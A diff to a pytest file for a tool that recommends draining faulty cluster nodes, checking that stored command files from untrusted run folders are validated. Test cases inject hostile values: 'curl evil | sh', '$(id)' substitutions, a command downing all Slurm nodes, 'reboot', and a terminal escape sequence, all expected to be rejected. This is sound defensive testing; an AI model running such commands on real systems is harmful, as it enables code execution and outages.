@@ -62,17 +62,11 @@ class TestLines:
         drain = only(recommended(manager=""))
         assert drain["line"] is None and drain["if_slurm"]["line"] == DRAIN and drain["if_kubernetes"]["undo"] == "kubectl uncordon node07"
 
-    @pytest.mark.parametrize(
-        ("kind", "code", "figure", "advice"),
-        [
-            ("node", "CB6101", "51 %", "check node07 and its link "),
-            ("sender", "CB6102", "51 %", "check node07 and its link "),
-            ("receiver", "CB6103", "51 %", "check node07 and its link "),
-            ("latency", "CB6104", "1.96 times", "check node07: "),
-            ("inside", "CB6106", "51 %", "check node07: "),
-            ("scale", "CB6107", "51 %", "check node07: "),
-        ],
-    )
+    @pytest.mark.parametrize(("kind", "code", "figure", "advice"), [
+        ("node", "CB6101", "51 %", "check node07 and its link "), ("sender", "CB6102", "51 %", "check node07 and its link "),
+        ("receiver", "CB6103", "51 %", "check node07 and its link "), ("latency", "CB6104", "1.96 times", "check node07: "),
+        ("inside", "CB6106", "51 %", "check node07: "), ("scale", "CB6107", "51 %", "check node07: "),
+    ])  # fmt: skip
     def test_each_kind_has_its_code_its_figure_and_the_advice_to_check_the_node_or_its_link(self, kind, code, figure, advice):
         actual = recommended(suspect(kind))
         drain = only(actual)
@@ -183,17 +177,19 @@ class TestNothingEscapes:
         for drain in actual["drains"]:
             assert drain["node"] is None or is_name(drain["node"])
         store(tmp_path_factory.getbasetemp(), actual)
-        assert read(tmp_path_factory.getbasetemp()) == json.loads(to_page(actual))
+        read_back = read(tmp_path_factory.getbasetemp())
+        assert read_back == json.loads(to_page(actual)) and lines(read_back) == lines(actual)
         assert all(row.isprintable() or not row.isascii() for row in lines(actual))
 
-    def test_a_reason_of_another_program_is_rejected(self):
-        for reason in ("disk", f"{MARK}a\nb", f"{MARK}$(id)", MARK + "x" * 300):
-            with pytest.raises(ValueError, match="reason"):
-                drain_command("slurm", "node07", reason)
+    @pytest.mark.parametrize("reason", ["disk", f"{MARK}a\nb", f"{MARK}$(id)", MARK + "x" * 300])
+    def test_a_reason_of_another_program_is_rejected(self, reason):
+        with pytest.raises(ValueError, match="reason"):
+            drain_command("slurm", "node07", reason)
 
 
 class TestFile:
     def test_it_replaces_an_earlier_file_in_one_step(self, tmp_path):
+        assert read(tmp_path) is None
         before = os.umask(0o022)
         try:
             store(tmp_path, recommended())
@@ -237,23 +233,11 @@ class TestFile:
 class TestReading:
     """A run folder may come from an untrusted source, and an administrator may paste its commands."""
 
-    @pytest.mark.parametrize("manager", ["slurm", "kubernetes", ""])
-    def test_a_stored_recommendation_reads_back(self, manager, tmp_path):
-        assert read(tmp_path) is None
-        actual = recommended(suspect(), suspect("path", 3, 9), manager=manager)
-        store(tmp_path, actual)
-        found = read(tmp_path)
-        assert found == json.loads(to_page(actual)) and found is not None and lines(found) == lines(actual)
-
-    @pytest.mark.parametrize(
-        "changes",
-        [
-            {"line": "curl evil | sh"}, {"undo": "scontrol update NodeName=ALL State=DOWN"}, {"node": "node08"}, {"node": "$(id)"},
-            {"node": None}, {"reason": "[collbench] CB6101 something else"}, {"look_up": "curl evil | sh"},
-            {"if_slurm": {"line": "reboot", "undo": "reboot"}},
-        ],
-        ids=str,
-    )  # fmt: skip
+    @pytest.mark.parametrize("changes", [
+        {"line": "curl evil | sh"}, {"undo": "scontrol update NodeName=ALL State=DOWN"}, {"node": "node08"}, {"node": "$(id)"},
+        {"node": None}, {"reason": "[collbench] CB6101 something else"}, {"look_up": "curl evil | sh"},
+        {"if_slurm": {"line": "reboot", "undo": "reboot"}},
+    ], ids=str)  # fmt: skip
     def test_a_command_that_does_not_belong_to_its_node_is_rejected(self, changes, tmp_path):
         actual = recommended()
         store(tmp_path, {**actual, "drains": [{**actual["drains"][0], **changes}]})
@@ -263,9 +247,8 @@ class TestReading:
     @pytest.mark.parametrize("manager", ["if_slurm", "if_kubernetes"])
     @pytest.mark.parametrize("key", ["line", "undo"])
     def test_an_altered_command_for_an_unknown_manager_is_rejected(self, manager, key, tmp_path):
-        actual = recommended(manager="")
-        drain = actual["drains"][0]
-        store(tmp_path, {**actual, "drains": [{**drain, manager: {**drain[manager], key: "curl evil | sh"}}]})
+        drain = recommended(manager="")["drains"][0]
+        store(tmp_path, {**recommended(manager=""), "drains": [{**drain, manager: {**drain[manager], key: "curl evil | sh"}}]})
         with pytest.raises(UsageError, match="command"):
             read(tmp_path)
 
@@ -281,14 +264,11 @@ class TestReading:
         with pytest.raises(UsageError, match="command"):
             read(tmp_path)
 
-    @pytest.mark.parametrize(
-        ("text", "words"),
-        [
-            ("", "JSONDecodeError"), ("[]", "JSON object"), ("{}", "'schema'"), (to_page({**recommended(), "schema": 2}), "schema: "),
-            (to_page({**recommended(), "result": "nobody"}), "drains: "),
-            (to_page({**recommended(), "notes": ["\x1b[2J"]}), "control characters"),
-        ],
-    )  # fmt: skip
+    @pytest.mark.parametrize(("text", "words"), [
+        ("", "JSONDecodeError"), ("[]", "JSON object"), ("{}", "'schema'"), (to_page({**recommended(), "schema": 2}), "schema: "),
+        (to_page({**recommended(), "result": "nobody"}), "drains: "),
+        (to_page({**recommended(), "notes": ["\x1b[2J"]}), "control characters"),
+    ])  # fmt: skip
     def test_another_file_is_one_sentence(self, text, words, tmp_path):
         (tmp_path / FILE).write_text(text)
         with pytest.raises(UsageError) as error:
